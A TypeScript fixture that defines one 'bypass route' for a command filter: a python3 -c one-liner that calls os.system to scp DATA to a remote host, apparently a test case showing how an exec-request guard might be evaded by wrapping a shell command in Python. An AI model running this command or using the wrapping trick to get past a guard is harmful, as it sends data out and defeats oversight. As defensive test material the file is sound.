import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by python',
  source: 'commands of one exec request',
  words: ['python3 -c \'import os; os.system("scp DATA host:")\''],
};
